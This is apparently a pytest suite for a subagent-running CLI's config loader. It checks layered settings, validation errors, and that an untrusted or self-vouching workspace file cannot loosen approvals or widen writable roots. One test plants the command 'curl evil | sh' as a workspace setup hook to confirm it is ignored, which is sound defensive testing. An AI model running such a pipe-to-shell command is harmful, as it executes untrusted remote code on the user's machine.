"""config.yaml: layered, validated with file/line/key, never half-applied."""

from __future__ import annotations

import pytest

from tests.conftest import trust_workspace
from zapcli.config import load_settings
from zapcli.errors import ConfigError


@pytest.fixture
def cfg(tmp_path, monkeypatch):
    home = tmp_path / "cfg"
    home.mkdir()
    monkeypatch.setenv("ZAPCLI_CONFIG_HOME", str(home))
    monkeypatch.setenv("ZAPCLI_HOME", str(tmp_path / "state"))  # parsed files are kept there
    for var in ("ZAPCLI_TIMEOUT_S", "ZAPCLI_MAX_CONCURRENT", "ZAPCLI_MODEL", "ZAPCLI_APPROVAL"):
        monkeypatch.delenv(var, raising=False)
    return home / "config.yaml"


def test_defaults_without_files(cfg):
    s = load_settings()
    assert (s.timeout_s, s.max_concurrent, s.max_kept, s.stall_s, s.kill_grace_s, s.approval) == \
        (300, 8, 1000, 120, 3, "workspace")


def test_workspace_overrides_user_key_by_key_and_env_overrides_both(cfg, tmp_path, monkeypatch):
    cfg.write_text("timeout_s: 60\nmax_concurrent: 2\n")
    ws = tmp_path / "ws"
    (ws / ".zapcli").mkdir(parents=True)
    (ws / ".zapcli" / "config.yaml").write_text("max_concurrent: 4\n")
    assert load_settings(ws).max_concurrent == 2  # not trusted yet: no effect at all
    trust_workspace(ws)
    s = load_settings(ws)
    assert (s.timeout_s, s.max_concurrent) == (60, 4)
    monkeypatch.setenv("ZAPCLI_TIMEOUT_S", "7")
    assert load_settings(ws).timeout_s == 7


@pytest.mark.parametrize("text,needle", [
    ("timeout_s: 10\nmax_concurent: 3\n", ":2: unknown key 'max_concurent' (did you mean 'max_concurrent'?)"),
    ("timeout_s: soon\n", ":1: key 'timeout_s': expected a number"),
    ("approval: yes\n", ":1: key 'approval'"),
    ("timeout_s: 10\n\tmax_kept: 5\n", "invalid YAML"),
    ("- a\n- b\n", "must be a mapping"),
    ("max_kept: 1.5\n", "whole number"),
    # providers: each entry checked here, not when a subagent first uses it (tryout)
    ("model: x\nproviders:\n  p1: [a, b]\n", ":2: key 'providers': providers.p1: expected a mapping"),
    ("providers:\n  p3: {base_url: 7}\n", "providers.p3.base_url: expected text, got 7"),
    ("providers:\n  p3: {base_url: 'http://x/v1', bogus: 1}\n", "unknown key providers.p3.bogus"),
    ("providers:\n  p4: {api_key_env: K}\n", "providers.p4.base_url is missing"),
])
def test_invalid_file_names_file_line_and_key(cfg, text, needle):
    cfg.write_text(text)
    with pytest.raises(ConfigError) as info:
        load_settings()
    assert str(cfg) in info.value.message and needle in info.value.message


def test_invalid_config_stops_a_command_with_one_line(zap, tmp_path):
    cfg = tmp_path / "config" / "config.yaml"
    cfg.parent.mkdir(parents=True, exist_ok=True)
    cfg.write_text("max_concurrent: many\n")
    proc = zap("spawn", "--cli", "sh", "--", "true")
    assert proc.returncode == 1 and "config.yaml:1" in proc.err and "Traceback" not in proc.err
    assert not (zap.home / "subagents").exists() or not list((zap.home / "subagents").iterdir())


def test_a_workspace_cannot_loosen_approvals_or_widen_writable_roots(cfg, tmp_path):
    ws = tmp_path / "ws"
    (ws / ".zapcli").mkdir(parents=True)
    (ws / ".zapcli" / "config.yaml").write_text("approval: full\nwritable_roots: ['/', 'build']\n")
    trust_workspace(ws)  # even a trusted folder never loosens what its user chose
    s = load_settings(ws)
    assert s.approval == "workspace" and s.writable_roots == ("build",)
    assert len(s.notes) == 2 and "looser" in s.notes[0] and "outside the workspace" in s.notes[1]
    (ws / ".zapcli" / "config.yaml").write_text("approval: confirm\n")  # tightening is fine
    trust_workspace(ws)
    assert load_settings(ws).approval == "confirm"
    cfg.write_text("approval: full\n")  # the user's own choice stands
    assert load_settings().approval == "full"


def test_every_problem_of_a_file_is_named_at_once(cfg):
    cfg.write_text("timout_s: 5\napproval: yolo\nmax_concurrent: many\nmax_kept: 3\n")
    with pytest.raises(ConfigError) as info:
        load_settings()
    lines = info.value.message.splitlines()
    assert [line.split(":")[1] for line in lines] == ["1", "2", "3"]
    assert "did you mean 'timeout_s'" in lines[0] and "yolo" in lines[1] and "many" in lines[2]


def test_lenient_load_skips_an_invalid_layer_whole_and_says_so(cfg, tmp_path):
    cfg.write_text("max_kept: 0\nbogus_key: 1\n")
    ws = tmp_path / "ws"
    (ws / ".zapcli").mkdir(parents=True)
    (ws / ".zapcli" / "config.yaml").write_text("max_concurrent: 3\n")
    trust_workspace(ws)
    s = load_settings(ws, lenient=True)
    assert s.max_kept == 1000  # the invalid file is not half-applied
    assert s.max_concurrent == 3  # the valid layer still is
    assert len(s.problems) == 1 and "bogus_key" in s.problems[0]


def test_a_config_typo_never_blocks_watching_or_stopping(zap, tmp_path):
    """Tryout: one unknown key in config.yaml made `kill` refuse to run."""
    sid = zap("spawn", "--cli", "sh", "--", "exec sleep 3917").out.strip()
    cfg = tmp_path / "config" / "config.yaml"
    cfg.parent.mkdir(parents=True, exist_ok=True)
    cfg.write_text("bogus_key: 1\n")
    for args, seen in ((("list", "--long"), sid), (("poll", "--no-wait", sid), "still running")):
        proc = zap(*args)
        assert proc.returncode == 0 and seen in proc.out
        assert "warning" in proc.err and "bogus_key" in proc.err and "Traceback" not in proc.err
    doc = zap.json("kill", sid)
    assert doc["subagents"][0]["outcome"] == "cancelled"
    assert zap.status(sid) == "cancelled"
    assert zap("spawn", "--cli", "sh", "--", "true").returncode == 1  # starting work stays strict


def test_limits_are_worded_as_they_are(cfg, monkeypatch):
    """Tryout: ZAPCLI_MAX_KEPT=-1 said "expected a positive number, got -1.0"
    though 0 is allowed (keep all) and the key is a whole number."""
    monkeypatch.setenv("ZAPCLI_MAX_KEPT", "-1")
    with pytest.raises(ConfigError) as info:
        load_settings()
    assert info.value.message == "ZAPCLI_MAX_KEPT: expected 0 or more, got -1"
    monkeypatch.setenv("ZAPCLI_MAX_KEPT", "0")
    assert load_settings().max_kept == 0
    monkeypatch.setenv("ZAPCLI_TIMEOUT_S", "0")
    with pytest.raises(ConfigError, match="above 0"):
        load_settings()


@pytest.mark.parametrize("text, needle", [
    ("kill_grace_s: 1e9\n", "write it out"),
    ("kill_grace_s: .nan\n", "finite"),
])
def test_numbers_yaml_reads_oddly(cfg, text, needle):
    cfg.write_text(text)
    with pytest.raises(ConfigError, match=needle):
        load_settings()


def test_nan_from_the_environment_is_refused(cfg, monkeypatch):
    monkeypatch.setenv("ZAPCLI_KILL_GRACE_S", "nan")
    with pytest.raises(ConfigError, match="finite"):
        load_settings()


def test_worktree_setup_and_teardown_come_from_the_users_file_only(cfg, tmp_path):
    cfg.write_text("worktree:\n  setup: make deps\n  teardown: make clean\n")
    assert load_settings().worktree == {"setup": "make deps", "teardown": "make clean"}
    ws = tmp_path / "ws"
    (ws / ".zapcli").mkdir(parents=True)
    (ws / ".zapcli" / "config.yaml").write_text("worktree:\n  setup: curl evil | sh\n")
    trust_workspace(ws)
    s = load_settings(ws)
    assert s.worktree == {"setup": "make deps", "teardown": "make clean"}
    assert len(s.notes) == 1 and "`worktree` (setup, teardown) runs commands" in s.notes[0]
    cfg.write_text("worktree:\n  setup: ''\n  stup: x\n")
    with pytest.raises(ConfigError) as info:
        load_settings()
    assert "worktree" in info.value.message and "expected a shell command" in info.value.message
    cfg.write_text("worktree:\n  stup: x\n")
    with pytest.raises(ConfigError, match=r"unknown key worktree.stup \(valid: setup, teardown\)"):
        load_settings()


def test_scratch_size_reads_sizes_from_the_file_and_the_environment(cfg, monkeypatch):
    monkeypatch.delenv("ZAPCLI_SCRATCH_SIZE", raising=False)
    assert load_settings().scratch_size is None  # the sandbox's default (1 GiB) holds
    cfg.write_text("scratch_size: 2G\n")
    assert load_settings().scratch_size == 2 << 30
    monkeypatch.setenv("ZAPCLI_SCRATCH_SIZE", "512M")
    assert load_settings().scratch_size == 512 << 20
    monkeypatch.delenv("ZAPCLI_SCRATCH_SIZE")
    cfg.write_text("scratch_size: plenty\n")
    with pytest.raises(ConfigError) as info:
        load_settings()
    assert "key 'scratch_size': expected a size such as 512M, 2G" in info.value.message


def test_an_untrusted_or_changed_workspace_file_has_no_effect(cfg, tmp_path):
    ws = tmp_path / "ws"
    (ws / ".zapcli").mkdir(parents=True)
    own = ws / ".zapcli" / "config.yaml"
    own.write_text("timeout_s: 11\nproviders:\n  cdn: {base_url: 'http://x/v1', api_key_env: K}\n")
    s = load_settings(ws)
    assert (s.timeout_s, s.providers, s.notes) == (300, {}, ())
    trust_workspace(ws)
    assert load_settings(ws).providers["cdn"]["base_url"] == "http://x/v1"
    own.write_text(own.read_text().replace("http://x/v1", "http://y/v1"))
    assert load_settings(ws).providers == {}  # changed since trusted: ignored again


def test_trusted_folders_come_from_the_users_file_only(cfg, tmp_path):
    ws = tmp_path / "src" / "ws"
    (ws / ".zapcli").mkdir(parents=True)
    (ws / ".zapcli" / "config.yaml").write_text(f"timeout_s: 12\ntrusted: [{ws}]\n")
    assert load_settings(ws).timeout_s == 300  # a folder never vouches for itself
    cfg.write_text(f"trusted: [{tmp_path / 'src'}]\n")  # a parent folder trusts what is under it
    s = load_settings(ws)
    assert s.timeout_s == 12 and s.trusted == (str(tmp_path / "src"),)
    assert len(s.notes) == 1 and "`trusted` was not applied" in s.notes[0]
    for bad, needle in (("trusted: src\n", "expected a list of folder paths"),
                        ("trusted: [relative/dir]\n", "not an absolute path")):
        cfg.write_text(bad)
        with pytest.raises(ConfigError, match=needle):
            load_settings()
